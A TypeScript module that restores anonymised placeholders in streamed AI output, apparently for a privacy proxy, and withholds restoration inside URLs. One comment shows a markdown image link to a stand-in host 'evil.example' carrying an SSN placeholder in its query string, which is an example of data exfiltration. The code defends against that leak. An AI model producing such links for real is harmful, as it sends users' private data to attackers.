import {
  MAX_PLACEHOLDER_LENGTH,
  couldBePlaceholderPrefix,
  placeholderLengthAt,
} from "./placeholder-format.ts";
import type { RestoreOptions } from "./restore-options.ts";
import { createRestoreUrlContext } from "./restore-url-context.ts";

/** Restores one stream of text (one message's content, one tool call's arguments). */
export interface StreamRestorer {
  /** Restores `chunk` and returns all of it that is safe to emit now. */
  push(chunk: string): string;
  /**
   * Returns whatever is still held back; call at the end of the stream. It may also end one
   * part of a longer text (a content block of a message): no placeholder spans the call,
   * while the URL context carries on into the next `push`, so a link that a vendor splits
   * over parts (`![](https://evil.example/?q=` | `[US_SSN_7QK2MX]` | `)`) is still seen.
   */
  flush(): string;
  /** `push(chunk) + flush()`, without following the text after the last placeholder (nothing reads that context). */
  finish(chunk: string): string;
}

/**
 * Creates a restorer for text that arrives in chunks. It holds back only a trailing `[…`
 * that could still grow into a placeholder (at most `MAX_PLACEHOLDER_LENGTH - 1`
 * characters, all ASCII, so a surrogate pair is never cut), so ordinary text passes
 * through undelayed. Whatever the chunking, the concatenated output equals
 * `restoreText` on the concatenated input, `onPlaceholder` calls included.
 *
 * A placeholder is restored only if `lookup` knows it and it is not inside a URL (see
 * `createRestoreUrlContext`); otherwise its text is passed through unchanged.
 */
export function createStreamRestorer(options: RestoreOptions): StreamRestorer {
  const { lookup, onPlaceholder } = options;
  const escapeForJson = options.encoding === "json-string";
  const urlContext = createRestoreUrlContext({ encoding: options.encoding });
  let held = "";

  /** The replacement for a complete placeholder, or undefined to keep its text. */
  function resolve(placeholder: string): string | undefined {
    const value = lookup(placeholder);
    if (value === undefined) {
      onPlaceholder?.(placeholder, "unknown");
      return undefined;
    }
    if (urlContext.isInsideUrl()) {
      onPlaceholder?.(placeholder, "kept-in-url");
      return undefined;
    }
    onPlaceholder?.(placeholder, "restored");
    return escapeForJson ? JSON.stringify(value).slice(1, -1) : value;
  }

  /** Restores `chunk`; unless it is the `last`, holds back a trailing placeholder prefix and follows everything. */
  function restore(chunk: string, last: boolean): string {
    const text = held.length === 0 ? chunk : held + chunk;
    held = "";
    let bracket = text.indexOf("[");
    if (bracket === -1) {
      if (!last) urlContext.advance(text, 0, text.length);
      return text;
    }
    let output = "";
    let copiedUpTo = 0;
    let followedUpTo = 0;
    while (bracket !== -1) {
      const length = placeholderLengthAt(text, bracket);
      if (length > 0) {
        urlContext.advance(text, followedUpTo, bracket);
        const end = bracket + length;
        const replacement = resolve(text.slice(bracket, end));
        if (replacement !== undefined) {
          output += text.slice(copiedUpTo, bracket) + replacement;
          copiedUpTo = end;
        }
        // The placeholder's own text is context too: `[A_…](https://…)` opens a link.
        urlContext.advance(text, bracket, end);
        followedUpTo = end;
        bracket = text.indexOf("[", end);
      } else if (!last && text.length - bracket < MAX_PLACEHOLDER_LENGTH && couldBePlaceholderPrefix(text.slice(bracket))) {
        // A prefix holds no other `[`, so this is the last one: nothing after it to scan.
        held = text.slice(bracket);
        urlContext.advance(text, followedUpTo, bracket);
        return output + text.slice(copiedUpTo, bracket);
      } else {
        bracket = text.indexOf("[", bracket + 1);
      }
    }
    if (!last) urlContext.advance(text, followedUpTo, text.length);
    return copiedUpTo === 0 ? text : output + text.slice(copiedUpTo);
  }

  return {
    push: (chunk) => restore(chunk, false),
    finish: (chunk) => restore(chunk, true),
    flush: function flush() {
      const rest = held;
      held = "";
      urlContext.advance(rest, 0, rest.length);
      return rest;
    },
  };
}
